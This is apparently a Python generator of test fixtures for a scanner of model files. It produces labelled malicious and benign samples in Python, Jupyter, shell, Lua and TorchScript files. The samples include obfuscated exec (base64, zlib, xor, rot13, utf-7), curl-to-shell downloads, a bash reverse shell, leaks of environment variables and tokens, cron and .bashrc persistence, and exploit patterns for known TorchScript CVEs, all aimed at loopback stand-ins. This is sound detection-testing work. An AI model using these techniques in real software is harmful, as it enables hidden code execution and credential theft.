"""f-python: source beside a model, notebooks and scripts; and what ordinary repositories hold."""
import base64
import codecs
import json
import zlib

from . import torchfmt
from .assemble import *
from .sample import Shelf
from .zipwriter import archive

shelf = Shelf("f-python", extension="py", loader="none")
benign = Shelf("benign", extension="py", loader="none")
MARK = "print('pratique-sample')"
HEADER = '"""A small model."""\nimport math\n'


def add(technique, variant, source, why, expected="malicious", **more):
    content = source if isinstance(source, bytes) else source.encode()
    shelf.add(technique, variant, content, why, expected=expected, executes=False, **more)


def fine(variant, source, why, **more):
    content = source if isinstance(source, bytes) else source.encode()
    benign.add("python", variant, content, why, expected="benign", **more)


# --- what runs on import ----------------------------------------------------------------------
add("import-call", "system", HEADER + "import os\nos.system('echo pratique-sample')\n",
    "a command outside of any function")
add("import-call", "alias", HEADER + "from os import system as say\nx = say\n"
    "x('echo pratique-sample')\n", "the same by two aliases")
add("import-call", "star", "from os import *\nsystem('echo pratique-sample')\n",
    "the same by a star")
add("import-call", "function", HEADER + "import subprocess\n\ndef warm_up(cmd):\n"
    "    return subprocess.run(cmd, shell=True)\n\nwarm_up('echo pratique-sample')\n",
    "in a function that the import calls")
add("import-call", "class_body", "import os\nclass Config:\n    size = 3\n"
    "    os.system('echo pratique-sample')\n", "in the body of a class")
add("import-call", "default", "import os\ndef f(x=os.system('echo pratique-sample')):\n"
    "    return x\n", "in the default of a parameter")
add("import-call", "decorator", f'@exec\n@(lambda f: "{MARK}")\nclass A:\n    pass\n',
    "exec as a decorator")
add("import-call", "subclass_hook", "import os\nclass Base:\n"
    "    def __init_subclass__(cls):\n        os.system('echo pratique-sample')\n"
    "class A(Base):\n    pass\n", "a hook that making a class calls")
add("import-call", "thread", "import os, threading\ndef work():\n"
    "    os.system('echo pratique-sample')\nthreading.Thread(target=work).start()\n",
    "in a thread that the import starts")
add("import-call", "atexit", "import atexit, os\n"
    "atexit.register(os.system, 'echo pratique-sample')\n",
    "at exit")
add("import-call", "setup_command", "from setuptools import setup\n"
    "from setuptools.command.install import install\nimport os\n\nclass Hook(install):\n"
    "    def run(self):\n        os.system('echo pratique-sample')\n\n"
    "setup(name='sample', cmdclass={'install': Hook})\n", "a command of setup.py")
add("import-call", "carriage_return", "# a comment\rimport os\ros.system('echo pratique-sample')\r",
    "statements behind carriage returns")
add("import-call", "python2", "import os\nprint 'loading'\n"
    "exec \"os.system('echo pratique-sample')\"\n",
    "Python 2")
add("import-call", "renamed", HEADER + "import os\nos.system('echo pratique-sample')\n",
    "the extension says that it is text", extension="txt")

# --- values that the flow of the program hides ------------------------------------------------
CALL = "('echo pratique-sample')\n"
for variant, source, why in (
        ("loop", "for f in (len, os.system):\n    f" + CALL, "the second item of a loop"),
        ("except", "try:\n    run = os.system\nexcept Exception:\n    run = print\nrun" + CALL,
         "a name that an except clause binds again"),
        ("second_call", "def go(f, x):\n    return f(x)\n\ngo(len, 'a')\n"
         "go(os.system, 'echo pratique-sample')\n", "a function's second call"),
        ("item", "table = {}\ntable['run'] = os.system\ntable['run']" + CALL,
         "an item that is set later"),
        ("attribute", "class Box: pass\nbox = Box()\nsetattr(box, 'run', os.system)\n"
         "box.run" + CALL, "an attribute that is set by name"),
        ("comprehension", "[f" + CALL.rstrip() + " for f in [len, os.system]]\n",
         "a variable of a comprehension"),
        ("pattern", "match [1, os.system]:\n    case [_, f]:\n        f" + CALL, "a pattern"),
        ("key", "sorted(['echo pratique-sample', ''], key=os.system)\n", "a key of sorted"),
        ("getter", "import operator\noperator.attrgetter('system')(os)" + CALL, "attrgetter"),
        ("lent", "import mycode\nmycode.os.system" + CALL, "a module that another one lends")):
    add("data-flow", variant, "import os\n" + source, why)
add("data-flow", "stored", "import os\nHOOKS = {'on_load': os.system}\n",
    "stored for somebody else to call", expected="suspicious")

# --- names that are put together --------------------------------------------------------------
add("hidden-name", "getattr", "import os\ngetattr(os, 'sys' + 'tem')('echo pratique-sample')\n",
    "a name of two pieces")
add("hidden-name", "import", "__import__('o' + 's').system('echo pratique-sample')\n",
    "a module of two pieces")
add("hidden-name", "reversed", "m = __import__('so'[::-1])\nm.__dict__['metsys'[::-1]]"
    "('echo pratique-sample')\n", "backwards, out of a dictionary")
add("hidden-name", "builtins", f"__builtins__.__dict__['ex' + 'ec'](\"{MARK}\")\n",
    "exec out of __builtins__")
add("hidden-name", "subclasses", "().__class__.__bases__[0].__subclasses__()\n",
    "the walk out of a sandbox")
add("hidden-name", "globals", "def f():\n    pass\nf.__globals__['__builtins__']\n",
    "modules out of a function's globals")
add("hidden-name", "mathematical", "import os\nos.\U0001d600\U0001d606\U0001d600"
    "\U0001d601\U0001d5f2\U0001d5fa('echo pratique-sample')\n", "letters of another alphabet")
add("hidden-name", "direction", "access = 'user'\n"
    "if access != 'none\u202e\u2066# check\u2069\u2066':\n    print('pratique-sample')\n",
    "marks of direction (CVE-2021-42574)", expected="suspicious")

# --- code that is decoded ---------------------------------------------------------------------
B64 = base64.b64encode(MARK.encode()).decode()
add("decoded", "base64", f"import base64\nexec(base64.b64decode('{B64}'))\n", "base64")
add("decoded", "zlib", "import base64, zlib\ncode = zlib.decompress(base64.b64decode('"
    + base64.b64encode(zlib.compress(MARK.encode(), 9)).decode() + "'))\nexec(code)\n",
    "a compressed block")
add("decoded", "hex", f"exec(bytes.fromhex('{MARK.encode().hex()}').decode())\n", "hexadecimal")
add("decoded", "chr", "exec(''.join(chr(c) for c in "
    + str(list(MARK.encode())) + "))\n", "a list of characters")
add("decoded", "map_chr", "eval(compile(''.join(map(chr, " + str(list(MARK.encode()))
    + ")), 'x', 'exec'))\n", "the same by map")
add("decoded", "rot13", f"import codecs\nexec(codecs.decode({codecs.encode(MARK, 'rot13')!r}, "
    "'rot13'))\n", "rot13")
add("decoded", "xor", "data = bytes(b ^ 66 for b in b'" + "".join(f"\\x{c ^ 66:02x}" for c in
    MARK.encode()) + "')\nexec(data)\n", "a cipher of one line")
add("decoded", "function", "import base64\n\ndef open_box(text):\n"
    "    return base64.b64decode(text)\n\n"
    f"class Model:\n    def forward(self, x):\n        exec(open_box('{B64}'))\n        return x\n",
    "in a method, through a function")
add("decoded", "fetched", "import urllib.request\n"
    "exec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\n", "fetched")
add("decoded", "pickle", "import pickle\npickle.loads(" + repr(evil()) + ")\n",
    "a pickle in the source")
add("decoded", "encoding", b"# -*- coding: utf-7 -*-\n# +AAo-print('pratique-sample')\n",
    "an encoding in which a comment is a statement")
add("decoded", "encoding_crlf", b"#!/usr/bin/python\r\n# the coding style coding: utf-7\r\n"
    b"# +AAo-print('pratique-sample')\r\n", "the same in the second line, as Windows ends lines")

# --- what else it does ------------------------------------------------------------------------
add("leak", "environment", "import json, os, urllib.request\n"
    "urllib.request.urlopen('http://127.0.0.1:9/', data=json.dumps(dict(os.environ)).encode())\n",
    "the whole environment in a request")
add("leak", "socket", "import socket, os\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n",
    "a connection on import")
add("plant", "profile", "import os\nopen(os.path.expanduser('~') + '/x', 'w')\n"
    "with open('/etc/cron.d/sample', 'w') as f:\n    f.write('pratique-sample')\n",
    "a file that cron starts")
add("leak", "token", "import os, urllib.request\n"
    "urllib.request.urlopen(f\"http://127.0.0.1:9/?k={os.environ['HF_TOKEN']}\")\n",
    "a token in the address that is asked for")
add("plant", "path", "from pathlib import Path\n"
    "(Path.home() / '.bashrc').write_text('pratique-sample')\n", "a shell's profile by pathlib")
add("load-call", "constructor", "import os\nfrom transformers import PreTrainedModel\n\n"
    "class SampleModel(PreTrainedModel):\n    def __init__(self, config):\n"
    "        super().__init__(config)\n        os.system('echo pratique-sample')\n",
    "a command in the constructor of a model", expected="suspicious")
add("path-file", "import", "import sys; exec('pass')\n", "a .pth file with code", extension="pth")


def notebook(*cells, outputs=()):
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "id": f"c{i}",
         "source": cell.splitlines(True), "outputs": list(outputs)}
        for i, cell in enumerate(cells)]}).encode()


add("notebook", "piped", notebook("import torch\n", "!curl -s http://127.0.0.1:9/x | sh\n"),
    "a download piped into a shell", extension="ipynb")
add("notebook", "decoded", notebook("import base64\n", f"exec(base64.b64decode('{B64}'))\n"),
    "decoded code, over two cells", extension="ipynb")
add("notebook", "magic", notebook("%system curl -s http://127.0.0.1:9/x | sh\n"),
    "the same by a magic", extension="ipynb")
add("notebook", "assigned", notebook("out = !curl -s http://127.0.0.1:9/x | sh\n"),
    "and with its output kept", extension="ipynb")
add("notebook", "worksheets", json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
    "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "outputs": [],
                               "input": ["!curl -s http://127.0.0.1:9/x | sh"]}]}]}).encode(),
    "and in the layout of nbformat 3", extension="ipynb")
add("script", "lua", "os.execute(\"curl -fsSL http://127.0.0.1:9/x | sh\")\n",
    "a download piped into a shell, of Lua", extension="lua")
add("script", "piped", "#!/bin/sh\nset -e\ncurl -fsSL http://127.0.0.1:9/x |\\\n  sudo bash\n",
    "a download piped into a shell", extension="sh")
add("script", "powershell", "powershell -NoProfile -EncodedCommand AAAA\n",
    "a hidden command", extension="ps1")
add("script", "reverse", "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n",
    "a shell for somebody else", extension="sh")

# TorchScript's own source: operators that touch files (CVE-2022-45907 evaluated such text, and
# CVE-2024-5480 called Python by name).
NET = (b"class Net(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
       b"  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n")
MODULE = PROTO2 + glob("__torch__", "Net") + EMPTY_TUPLE + NEWOBJ + dic(
    binunicode("training"), FALSE) + BUILD + STOP


def torchscript(code, name="code/__torch__.py"):
    return archive([torchfmt.entry("data.pkl", MODULE), torchfmt.entry(name, code),
                    torchfmt.entry("constants.pkl", PROTO2 + EMPTY_TUPLE + STOP),
                    torchfmt.entry("version", b"3\n")])


add("torchscript", "save", torchscript(NET
    + b"    _0 = ops.aten.save(x, \"/tmp/pratique-sample\")\n    return x\n"),
    "writes a file", extension="pt")
for variant, call_, expected in (
        ("vision_write", b"ops.image.write_file(\"/tmp/pratique-sample\", x)", "malicious"),
        ("vision_read", b"ops.image.read_file(\"/etc/hostname\")", "malicious"),
        ("audio", b"ops.torchaudio.sox_io_save_audio_file(\"/tmp/pratique-sample\", x)",
         "malicious"),
        ("unknown", b"ops.somebody.anything(\"/tmp/pratique-sample\", x)", "suspicious")):
    add("torchscript", variant, torchscript(NET + b"    _0 = " + call_ + b"\n    return x\n"),
        "an operator of a library beside torch", extension="pt", expected=expected)
MOBILE = [torchfmt.entry("data.pkl", MODULE), torchfmt.entry("version", b"3\n"),
          torchfmt.entry("constants.pkl", PROTO2 + EMPTY_TUPLE + STOP)]


def mobile(operator):
    listed = tup(binunicode("operators"), tup(tup(binunicode(operator), binunicode(""))))
    return archive([*MOBILE, torchfmt.entry("bytecode.pkl", PROTO2 + tup(integer(4), tup(
        binunicode("__torch__.Net.forward"), tup(listed))) + STOP)])


add("torchscript", "mobile", mobile("aten::from_file"), "reads a file, in the form for phones",
    extension="ptl")
fine("torchscript_mobile", mobile("aten::relu"), "computes, in the form for phones",
     extension="ptl")
add("torchscript", "from_file", torchscript(NET + b"    y = torch.from_file(\"/etc/hostname\", "
    b"False, 4)\n    return y\n"), "reads a file", extension="pt")
add("torchscript", "annotation", torchscript(NET + b"    # type: (Tensor) -> "
    b"__import__('os').system('echo pratique-sample')\n    return x\n"),
    "a type comment that is evaluated (CVE-2022-45907)", extension="pt")
add("torchscript", "python_udf", torchscript(NET + b"    y = torch.distributed.rpc.rpc_sync("
    b"\"worker\", eval, (\"1\",))\n    return y\n"),
    "a call of Python by RPC (CVE-2024-5480)", extension="pt")
add("torchscript", "package", archive([torchfmt.entry("data.pkl", MODULE),
    torchfmt.entry(".data/version", b"6\n"), torchfmt.entry(".data/extern_modules", b"os\n"),
    torchfmt.entry("net.py", b"import os\nos.system('echo pratique-sample')\n")]),
    "torch.package imports its sources", extension="pt")

# --- what ordinary repositories hold ----------------------------------------------------------
fine("modeling", '''"""Model of a sample."""
import math
import os
from typing import Optional, Tuple

import torch
from torch import nn
from transformers.modeling_utils import PreTrainedModel
from .configuration_sample import SampleConfig

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

_CHECKPOINT = os.path.join("models", "sample")
ACT = {"gelu": nn.functional.gelu, "relu": nn.functional.relu}


class SampleAttention(nn.Module):
    def __init__(self, config: SampleConfig):
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.out = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor]:
        weights = torch.softmax(x @ x.transpose(-1, -2) * self.scale, dim=-1)
        return (self.out(weights @ x),)


class SampleModel(PreTrainedModel):
    config_class = SampleConfig

    @classmethod
    def from_pretrained(cls, path, *args, **kwargs):
        weights = torch.load(os.path.join(path, "pytorch_model.bin"), map_location="cpu")
        model = cls(SampleConfig.from_json_file(os.path.join(path, "config.json")))
        model.load_state_dict(weights)
        return model
''', "a model's source", extension="py")
fine("train", '''#!/usr/bin/env python3
import argparse
import json
import os
import subprocess

os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")


def git_revision():
    return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--lr", type=eval, default="1e-4")
    args = parser.parse_args()
    os.makedirs("out", exist_ok=True)
    with open("out/args.json", "w") as f:
        json.dump({**vars(args), "revision": git_revision()}, f)
    optimizer = eval("torch.optim." + args.name)
    print(f"{args.lr:>10} {os.getcwd()!r}")


if __name__ == "__main__":
    main()
''', "a training script")
fine("handler", '''from typing import Any, Dict, List
import base64
import io

from PIL import Image
from transformers import pipeline


class EndpointHandler:
    def __init__(self, path=""):
        self.pipe = pipeline("image-classification", model=path)

    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:
        image = Image.open(io.BytesIO(base64.b64decode(data["inputs"])))
        return self.pipe(image)
''', "a handler of a server")
fine("setup", '''from setuptools import find_packages, setup

version = {}
with open("sample/version.py") as f:
    exec(f.read(), version)

setup(
    name="sample",
    version=version["__version__"],
    long_description=open("README.md", encoding="utf-8").read(),
    packages=find_packages(),
    install_requires=["torch>=2.0"],
)
''', "a setup.py")
fine("tools", '''import os
import subprocess
import sys
from typing import Dict, Optional

CALLS = {"len": len, "sum": sum}
for name, call in CALLS.items():
    print(name, call([1]))


class Runner:
    process: Optional[subprocess.Popen] = None

    def attach(self, process: subprocess.Popen) -> Dict[str, subprocess.Popen]:
        if isinstance(process, subprocess.Popen):
            self.process = process
        return {"it": self.process}


if sys.platform != "win32" and __name__ == "__main__":
    os.system("ls")
''', "types of processes, and a guard with two conditions")
fine("demo", '''import requests
import torch
from PIL import Image
from transformers import AutoModel

url = "http://images.example.org/000000039769.jpg"
image = Image.open(requests.get(url, stream=True).raw)
model = AutoModel.from_pretrained("sample", trust_remote_code=True).eval()
with torch.no_grad():
    print(model(image))
''', "an example that fetches a picture")
fine("notebook", notebook("%matplotlib inline\n!pip install -q transformers\nimport torch\n",
    "%%time\nx = torch.ones(3)\nx?\n", outputs=[{"output_type": "stream", "name": "stdout",
    "text": ["ok\n"]}]), "an ordinary notebook", extension="ipynb")
fine("notebook_shell", notebook("files = !ls\nsizes = %sx du -s *\n%timeit len(files)\n"),
    "a notebook that keeps what commands print", extension="ipynb")
fine("lua", "local x = require('torch')\nprint(x:size())\n", "an ordinary Lua script",
    extension="lua")
fine("script", "#!/bin/bash\nset -euo pipefail\n# curl http://x | sh is what we do not do\n"
    "for f in *.bin; do\n  python convert.py \"$f\" | tee log.txt\ndone\n", "an ordinary script",
    extension="sh")
fine("merges", "#version: 0.2\nĠ t\nĠ a\nh e\ni n\nos .system\n", "merges of a tokenizer",
    extension="txt")
fine("words", "import\nos.system(x)\nexec(\ndef\nclass\n", "words of a vocabulary",
    extension="txt")
fine("readme", "# Sample\n\nInstall and run:\n\n```python\nimport os\nos.system('make')\n```\n\n"
    "```sh\ncurl -LsSf https://example.org/install.sh | sh\n```\n", "a model card with code",
    extension="md")
fine("torchscript", torchscript(NET + b"    _0 = torch.add(x, x, alpha=1)\n    return _0\n"),
    "TorchScript that computes", extension="pt")
